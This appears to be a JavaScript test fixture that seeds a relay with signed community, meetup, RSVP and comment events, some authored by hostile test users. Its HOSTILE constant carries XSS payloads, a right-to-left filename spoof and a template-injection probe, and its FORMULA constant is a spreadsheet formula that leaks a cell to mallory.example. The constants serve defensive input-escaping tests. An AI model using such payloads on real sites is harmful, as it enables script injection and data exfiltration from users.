/**
 * What the relay of the tests has: the 103 real communities of tests/data, and meetups of our own.
 */
import { readFile } from 'node:fs/promises';

import { now } from '../../web/assets/js/bytes.js';
import { publicKeyOf, signWith } from '../../web/assets/js/event.js';
import { Relay } from '../../web/assets/js/relay.js';
import { pictureOf } from './pictures.mjs';

const REAL = new URL('../data/meetups-real.json', import.meta.url);
const BASE32 = '0123456789bcdefghjkmnpqrstuvwxyz';
const DAY = 86_400;

/** What somebody hostile writes, wherever something can be written. */
export const HOSTILE = '"><script>alert(1)</script><img src=x onerror=alert(2)>\u202etxt.exe 👩‍👩‍👧‍👦 {{7*7}} '
  + 'x'.repeat(10_000);

/** What a spreadsheet would compute, and send elsewhere. */
export const FORMULA = '=HYPERLINK("https://mallory.example/?"&A1,"see")';

/** The secret key of a person of the tests. */
export function person(number) {
  return Uint8Array.from({ length: 32 }, (_, at) => (at === 31 ? number : 1));
}

export const ANNA = person(1);
export const BEN = person(2);
export const CLARA = person(3);
export const MALLORY = person(66);
export const ADMINISTRATOR = person(42);
/** Another one like Mallory. */
const EVE = person(67);

/** A note of a person, a minute old. */
export function note(secret, kind, tags, content = '', created_at = now() - 60) {
  return signWith({ kind, tags, content, created_at }, secret);
}

/** The geohash of a place, nine characters. */
export function geohash(latitude, longitude) {
  const range = [[-180, 180], [-90, 90]];
  const place = [longitude, latitude];
  let text = '';
  for (let bit = 0, value = 0; text.length < 9; bit += 1) {
    const bounds = range[bit % 2];
    const middle = (bounds[0] + bounds[1]) / 2;
    const isHigh = place[bit % 2] >= middle;
    bounds[isHigh ? 0 : 1] = middle;
    value = value * 2 + Number(isHigh);
    if (bit % 5 === 4) {
      text += BASE32[value];
      value = 0;
    }
  }
  return text;
}

/** A community: its note, and its description. */
export function community(owner, title, { tags = [], about = `All about ${title}`, nonce = '' } = {}) {
  const begun = note(owner, 1037, [], `${title}${nonce}`);
  const described = note(owner, 30037, [
    ['d', begun.id], ['e', begun.id, '', begun.pubkey], ['title', title], ...tags,
  ], about);
  return { id: begun.id, owner, events: [begun, described] };
}

/** A meetup of a community. */
export function meetup(author, of, slug, { title = slug, start = soon(2), tags = [], about = '' } = {}) {
  return note(author, 31923, [
    ['d', `${of.id}:${slug}`],
    ['e', of.id, '', publicKeyOf(of.owner)],
    ['title', title],
    ['start', String(start)],
    ['end', String(start + 2 * 3_600)],
    ['start_tzid', 'Europe/Berlin'],
    ['published_at', String(now() - 600)],
    ...tags,
  ], about);
}

/** The address of a meetup. */
export function addressOf(event) {
  return `${event.kind}:${event.pubkey}:${event.tags.find(([name]) => name === 'd')[1]}`;
}

/** An answer to a meetup. */
export function rsvp(secret, of, status, tags = [], word = '') {
  const address = addressOf(of);
  return note(secret, 31925, [['d', `answer to ${address}`], ['a', address], ['e', of.id], ['status', status], ...tags], word);
}

/** A comment on a meetup. */
export function comment(secret, of, text, created_at) {
  const address = addressOf(of);
  const [kind, author] = [String(of.kind), of.pubkey];
  return note(secret, 1111, [
    ['A', address], ['K', kind], ['P', author], ['a', address], ['k', kind], ['p', author],
  ], text, created_at);
}

/** The list of communities that a person follows. */
export function follows(secret, communities, more = []) {
  return note(secret, 10037, [...more, ...communities.map(({ id }) => ['e', id])]);
}

/** So many days from now, at seven in the evening in Berlin in winter. */
export function soon(days) {
  const today = Math.floor(now() / DAY) * DAY;
  return today + days * DAY + 18 * 3_600;
}

/** Lists of an owner: members, the muted with a reason, and meetups of others that are the community's own. */
function lists({ id, owner }, { member, muted, reason, adopted }) {
  return [
    note(owner, 30000, [['d', id], ['title', 'Members'], ['p', publicKeyOf(member)]]),
    note(owner, 30000, [['d', `${id}:blocked`], ['title', 'Blocked'], ['p', publicKeyOf(muted), '', '', reason]]),
    note(owner, 31924, [['d', id], ['title', 'Calendar'], ['a', addressOf(adopted)]]),
  ];
}

async function real() {
  const entries = JSON.parse(await readFile(REAL, 'utf8'));
  return entries.map(({ name, country, city, latitude, longitude, url }) => community(ANNA, name, {
    about: `See ${url}`,
    tags: [['t', 'bitcoin'], ['g', geohash(latitude, longitude)], ['g', `${country}:${city}`, 'city']],
  }));
}

const LUEBECK = [['g', geohash(53.8655, 10.6866)], ['g', 'DE:Lübeck', 'city']];

/** Communities that show that there is more than one topic in the world. */
function others() {
  const of = (title, topic, latitude, longitude, city, slug, meeting, days, place) => {
    const tags = [['t', topic], ['g', geohash(latitude, longitude)], ['g', city, 'city'], ['image', pictureOf(slug)]];
    const found = community(BEN, title, { tags, nonce: slug, about: `${title}: everybody is welcome.` });
    const event = meetup(BEN, found, slug, {
      title: meeting, start: soon(days), tags: [...tags, ['location', place]], about: `${meeting}. Just come.`,
    });
    return [...found.events, event];
  };
  return [
    of('Chess at the Trave', 'chess', 53.8689, 10.6873, 'DE:Lübeck', 'chess', 'Blitz on the quay', 2, 'An der Untertrave 30'),
    of('Rust Hansestadt', 'rust', 53.8620, 10.6790, 'DE:Lübeck', 'rust', 'Rust and fish rolls', 4, 'Hüxstraße 12'),
    of('Wanderfreunde Ostsee', 'hiking', 53.9600, 10.8700, 'DE:Lübeck', 'hike', 'Along the cliffs to Niendorf', 7, 'Travemünde station'),
    of('Chess Berlin', 'chess', 52.52, 13.405, 'DE:Berlin', 'berlin', 'Sunday simul', 6, 'Café Anna, Torstraße 3'),
  ].flat();
}

/** Everything, by name; `isFriendly` leaves out what is hostile, and has more topics. */
export async function world({ isFriendly = false } = {}) {
  const communities = await real();
  const luebeck = communities.find(({ events }) => events[1].tags.some(([, value]) => value === 'Einundzwanzig Lübeck'));
  const stammtisch = meetup(ANNA, luebeck, 'stammtisch', {
    title: 'Stammtisch im Ratskeller',
    start: soon(3),
    tags: [...LUEBECK, ['summary', 'An evening around a long table. Newcomers are welcome.'], ['image', pictureOf('stammtisch')],
      ['location', 'Ratskeller, Markt 13, Lübeck'], ['t', 'bitcoin']],
    about: 'We meet every month, talk about **everything and nothing**, and eat.\n\n'
      + '- Come as you are\n- Bring a friend\n- Questions are welcome\n\nThe table is the long one at the window.',
  });
  const seats = meetup(ANNA, luebeck, 'workshop', {
    title: 'Workshop: your first node', start: soon(5), about: 'Two seats at the bench.',
    tags: [...LUEBECK, ['image', pictureOf('missing')], ['capacity', '2'], ['guests', '1'], ['location', 'Werkhof, Kanalstraße 70, Lübeck'], ['t', 'nodes']],
  });
  const cancelled = meetup(ANNA, luebeck, 'cancelled', {
    title: 'Boat trip', start: soon(6), tags: [...LUEBECK, ['status', 'cancelled']],
  });
  const past = meetup(ANNA, luebeck, 'past', { title: 'Summer barbecue', start: soon(-30), tags: LUEBECK });
  const room = note(ANNA, 40, [['e', luebeck.id, '', publicKeyOf(ANNA)]], JSON.stringify({ name: 'Lübeck' }));
  const say = (secret, text, at) => note(secret, 42, [['e', room.id, '', 'root']], text, at);
  const strange = community(MALLORY, HOSTILE, {
    about: HOSTILE, tags: [['t', HOSTILE], ['g', `DE:${HOSTILE}`, 'city'], ['image', 'javascript:alert(3)']],
  });
  const strangeMeetup = meetup(MALLORY, strange, 'strange', {
    title: HOSTILE, about: HOSTILE, tags: [['summary', HOSTILE], ['location', HOSTILE], ['t', HOSTILE], ['r', HOSTILE]],
  });
  // What others bring to the pages of organizers.
  const [proposed, adopted] = ['proposed', 'adopted'].map((slug) => meetup(EVE, strange, slug, { title: HOSTILE }));
  const outsider = person(68);
  const ofOrganizers = [
    proposed, adopted, ...lists(strange, { member: EVE, muted: outsider, reason: HOSTILE, adopted }),
    rsvp(EVE, strangeMeetup, 'tentative', [], HOSTILE), rsvp(CLARA, strangeMeetup, 'accepted', [], FORMULA),
    note(outsider, 0, [], JSON.stringify({ name: HOSTILE })),
  ];
  const ofBen = { about: 'I host the long table.\nAsk me anything.', picture: pictureOf('ben'), website: 'https://ben.example/' };
  const short = HOSTILE.slice(0, 70);
  const ofMallory = { about: `${HOSTILE}\n${HOSTILE}`, picture: pictureOf(short), website: `https://mallory.example/${short}` };
  const profiles = [[ANNA, 'Anna'], [BEN, 'Ben', ofBen], [CLARA, 'Clara'], [MALLORY, HOSTILE, ofMallory], [EVE, HOSTILE]].map(
    ([secret, name, more]) => note(secret, 0, [], JSON.stringify({ name, ...more })),
  );
  const chatter = Array.from({ length: 45 }, (_, at) => say(
    at % 2 ? BEN : ANNA, `Message ${at + 1} of a long evening`, now() - 10_000 + at,
  ));
  const events = [
    ...communities.flatMap(({ events }) => events), ...strange.events, ...profiles,
    stammtisch, seats, cancelled, past, strangeMeetup, room, ...chatter, ...(isFriendly ? [] : ofOrganizers),
    follows(BEN, [luebeck]), follows(CLARA, [luebeck]), follows(MALLORY, [strange]),
    ...(isFriendly ? others() : []),
    rsvp(BEN, stammtisch, 'accepted'), rsvp(CLARA, stammtisch, 'tentative'),
    rsvp(BEN, seats, 'accepted', [['guests', '1']]), rsvp(MALLORY, strangeMeetup, 'accepted'),
    comment(BEN, stammtisch, 'Is there a vegetarian menu?', now() - 500),
    comment(ANNA, stammtisch, 'There is, and it is good.', now() - 400),
    comment(MALLORY, strangeMeetup, HOSTILE),
  ];
  const byMallory = publicKeyOf(MALLORY);
  const shown = isFriendly ? events.filter(({ pubkey }) => pubkey !== byMallory) : events;
  return { events: shown, luebeck, stammtisch, seats, cancelled, past, room, strange, strangeMeetup };
}

/** Gives a relay these notes; all must be taken. */
export async function publishAll(url, events) {
  const relay = new Relay(url);
  const answers = await Promise.all(events.map((event) => relay.say(event)));
  relay.close();
  answers.forEach(({ taken, reason }, at) => {
    if (!taken) throw new Error(`${reason}: ${JSON.stringify(events[at]).slice(0, 300)}`);
  });
}
